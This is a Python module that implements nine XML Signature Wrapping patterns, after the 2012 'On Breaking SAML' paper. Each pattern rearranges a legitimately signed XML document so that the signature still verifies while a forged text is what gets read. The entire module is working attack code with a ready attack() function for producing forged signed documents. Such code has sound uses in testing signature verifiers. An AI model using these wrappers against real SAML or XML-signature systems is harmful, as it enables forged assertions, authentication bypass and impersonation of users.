"""The nine ways to wrap a signed document, so that one part is verified and another is read.

After Somorovsky and others, "On Breaking SAML" (2012), whose eight patterns and a ninth are told
here for a signature that stands inside the document it covers. Each takes a document that was
signed in earnest, and gives one that says something else; the signature is never made anew.
"""

from copy import deepcopy

from lxml import etree

DS = "{http://www.w3.org/2000/09/xmldsig#}"
PLACEMENTS = ("last", "first")
"""Where the attack puts the signature: as the last child of the root, or as the first."""


def taken_apart(data):
    """The document without its signature, and the signature."""
    root = etree.fromstring(data)
    signature = root.find(f"{DS}Signature")
    root.remove(signature)
    return root, signature


def forged(root):
    """The document with another text in its first leaf that has one."""
    made = deepcopy(root)
    leaf = next(one for one in made.iter() if not len(one) and (one.text or "").strip())
    leaf.text = "FORGED"
    return made


def put(root, signature, placement):
    """The root with a signature at one of the placements."""
    made = deepcopy(root)
    made.insert(len(made) if placement == "last" else 0, deepcopy(signature))
    return made


def holding(above, name, *inside):
    """An element of a name, with some others in it, at the end of another."""
    made = etree.SubElement(above, name)
    made.extend([deepcopy(one) for one in inside])
    return above


def original_in_an_object(root, signature, placement):
    """1: the forged document is the root; the original hides in an Object of the signature."""
    return put(forged(root), holding(signature, f"{DS}Object", root), placement)


def original_beside_the_signature(root, signature, placement):
    """2: the forged document is the root; the original stands before the signature."""
    made = put(forged(root), signature, placement)
    made.find(f"{DS}Signature").addprevious(deepcopy(root))
    return made


def signed_original_before_the_content(root, signature, placement):
    """3: the original stands whole, signature and all, as the first child of the forged one."""
    made = forged(root)
    made.insert(0, put(root, signature, placement))
    return made


def signed_original_after_the_content(root, signature, placement):
    """4: the same, as the last child of the forged one."""
    made = forged(root)
    made.append(put(root, signature, placement))
    return made


def original_after_the_signature(root, signature, placement):
    """5: the forged document takes the signature; the original follows behind it."""
    made = put(forged(root), signature, placement)
    made.append(deepcopy(root))
    return made


def original_in_the_key_info(root, signature, placement):
    """6: the forged document takes the signature; the original hides in its KeyInfo."""
    signature.find(f"{DS}KeyInfo").append(deepcopy(root))
    return put(forged(root), signature, placement)


def forged_in_an_extension(root, signature, placement):
    """7: the original stays the root, and an element that nobody knows holds the forged one."""
    return put(
        holding(deepcopy(root), "{urn:example:extension}Extensions", forged(root)),
        signature,
        placement,
    )


def forged_in_an_object(root, signature, placement):
    """8: the original stays the root, and an Object of its signature holds the forged one.

    No digest covers that place: the arithmetic of the signature holds.
    """
    return put(root, holding(signature, f"{DS}Object", forged(root)), placement)


def two_signatures(root, signature, placement):
    """9: the forged document has the signature too, and the original with its own inside it."""
    made = put(forged(root), signature, placement)
    made.insert(len(made) // 2, put(root, signature, placement))
    return made


PATTERNS = (
    original_in_an_object,
    original_beside_the_signature,
    signed_original_before_the_content,
    signed_original_after_the_content,
    original_after_the_signature,
    original_in_the_key_info,
    forged_in_an_extension,
    forged_in_an_object,
    two_signatures,
)


def attack(data, pattern, placement):
    """A signed document, wrapped by a pattern."""
    return etree.tostring(pattern(*taken_apart(data), placement))
